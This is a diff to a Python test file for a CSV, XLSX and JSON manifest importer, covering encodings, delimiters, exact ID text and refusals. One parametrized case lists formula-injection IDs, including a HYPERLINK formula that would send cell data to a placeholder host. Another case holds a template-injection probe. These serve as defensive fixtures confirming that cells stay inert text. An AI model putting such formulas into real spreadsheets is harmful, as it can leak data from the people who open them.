@@ -13,12 +13,15 @@ from batches.manifests import (
     Code,
     ExistingDocument,
     ExistingVersion,
+    Limits,
     ManifestRefused,
     OnConflict,
     fingerprint,
     plan,
 )
-from tests.manifests.samples import CASES, case, codes, error_codes, listed, refusal, uploaded, zipped
+from tests.manifests.samples import CASES, case, codes, error_codes, listed, refusal, uploaded, workbook, zipped
+
+EXACT_IDS = ("0010", "10", "0100", "00042", "+7", "1e3", "1000", "0x1F", "TRUE", "NULL", "None")
 
 
 @pytest.mark.parametrize(
@@ -78,8 +81,8 @@ def test_a_case_is_read_with_exactly_these_ids_and_not_a_word(name: str, ids: li
 @pytest.mark.parametrize(
     ("name", "code", "words"),
     [
-        pytest.param("004-utf16le-nobom.csv", "not_utf8", "UTF-16", id="4 UTF-16 without its mark"),
-        pytest.param("005-workbook.csv", "wrong_file_type", "This is an Excel workbook", id="5 a workbook"),
+        pytest.param("005-workbook.csv", "empty_file", "This is an Excel workbook without a sheet", id="5 a workbook"),
+        pytest.param("007-unclosed-quote.csv", "bad_csv_row", "Line 3: a quote opens here", id="7 an open quote"),
         pytest.param("023-duplicate-entries.zip", "archive_unsafe", '"d1.html" and "manifest.json"', id="23"),
         pytest.param("025-encrypted.zip", "archive_encrypted", "The ZIP is password-protected", id="25"),
         pytest.param("026-deep.json", "too_deep", "Line 1, character 65", id="26 brackets without end"),
@@ -95,9 +98,81 @@ def test_a_case_is_refused_as_a_whole_with_a_sentence(name: str, code: str, word
     assert refused.fix
 
 
+@pytest.mark.parametrize(
+    ("name", "delimiter", "lines"),
+    [
+        pytest.param("001-bom.csv", ",", {"INV-101": 2, "INV-102": 3}, id="1 CSV with a byte-order mark"),
+        pytest.param("002-semicolon.csv", ";", {"RE-1": 3, "RE-2": 4}, id="2 sep= and decimal commas"),
+        pytest.param("004-utf16le-tab.csv", "\t", {"INV-1": 2, "INV-2": 3}, id="4 Excel's Unicode text"),
+        pytest.param("004-utf16le-nobom.csv", "\t", {"INV-1": 2, "INV-2": 3}, id="4 the same without its mark"),
+        pytest.param("008-trailing-blank-rows.csv", ",", {"INV-1": 2, "INV-2": 3}, id="8 rows that were cleared"),
+        pytest.param("029-big-cell.csv", ",", {"BIG-1": 2, "BIG-2": 3}, id="29 a cell beyond csv's limit"),
+        pytest.param(
+            "010-leading-zeros.csv",
+            ",",
+            {each: line for line, each in enumerate(EXACT_IDS, 2)},
+            id="10 ids are the exact text of the cell",
+        ),
+        pytest.param(
+            "124-formula-ids.csv",
+            ",",
+            {
+                '=HYPERLINK("http://example.invalid/?x="&A1,"open")': 2,
+                "@SUM(1+1)": 3,
+                "+44-555-0102": 4,
+                "-5": 5,
+                "=1+1": 6,
+                "'=quoted": 7,
+            },
+            id="124 ids that a spreadsheet would run",
+        ),
+    ],
+)
+def test_a_case_that_is_a_table_is_read_with_exactly_these_ids_and_lines(
+    name: str, delimiter: str, lines: dict[str, int]
+) -> None:
+    with case(name) as manifest:
+        assert {row.business_id: row.line for row in manifest.rows} == lines
+        assert manifest.row_count == len(lines)
+        assert not [problem for problem in manifest.errors if problem.code is not Code.ID_LOST_ZEROS_SUSPECTED]
+        assert manifest.delimiter == delimiter
+        assert all(row.text().startswith("<p") for row in manifest.rows)
+        assert "\ufeff" not in json.dumps(manifest.report(), ensure_ascii=False)
+
+
+def test_case_2_decimal_commas_and_semicolons_in_the_text_outvote_nothing() -> None:
+    with case("002-semicolon.csv") as manifest:
+        assert manifest.columns == ("id", "amount", "html")
+        assert manifest.rows[0].text() == '<p style="color:red;margin:0">1.234,50 &euro;, netto</p>'
+        assert [row.original["amount"] for row in manifest.rows] == ["1.234,50", "0,99"]
+
+
+def test_case_4_letters_outside_latin_1_stay_whole() -> None:
+    with case("004-utf16le-tab.csv") as manifest:
+        assert [row.text() for row in manifest.rows] == ["<p>Zoë</p>", "<p>Łukasz</p>"]
+
+
+def test_case_29_the_limit_of_a_document_counts_and_names_the_row() -> None:
+    with uploaded((CASES / "029-big-cell.csv").read_bytes(), limits=Limits(max_document_bytes=100_000)) as manifest:
+        assert codes(manifest.errors) == [("file_too_large", "html", (0,))]
+        assert manifest.errors[0].places[0].line == 2
+
+
+def test_case_38_cells_are_text_and_nothing_more() -> None:
+    with case("038-hostile-rows.csv") as manifest:
+        assert codes(manifest.errors) == [("missing_field", "html", (0, 1, 2, 3))]
+    raw = (CASES / "038-hostile-rows.csv").read_bytes().replace(b"id,name,note", b"id,meta.name,html_content")
+    with uploaded(raw) as manifest:
+        assert [row.meta["name"] for row in manifest.rows][:2] == ["O'Neill & Sons <Ltd>", "{{ 7|add:7 }}"]
+        assert manifest.rows[0].text() == '5 < 6 & "fine"'
+
+
 @pytest.mark.parametrize("name", ["upload.csv", "upload.xlsx", "upload.zip", "upload.json", "upload"])
 def test_case_5_a_workbook_is_known_by_its_content_whatever_its_name(name: str) -> None:
     assert "Excel workbook" in refusal((CASES / "005-workbook.csv").read_bytes(), name).message
+    with uploaded(workbook([["id", "html"], ["INV-1", "<p>one</p>"]]), name) as manifest:
+        assert [(row.business_id, row.line, row.text()) for row in manifest.rows] == [("INV-1", 2, "<p>one</p>")]
+        assert manifest.format == "xlsx"
 
 
 def test_case_11_only_text_and_whole_numbers_are_ids() -> None:
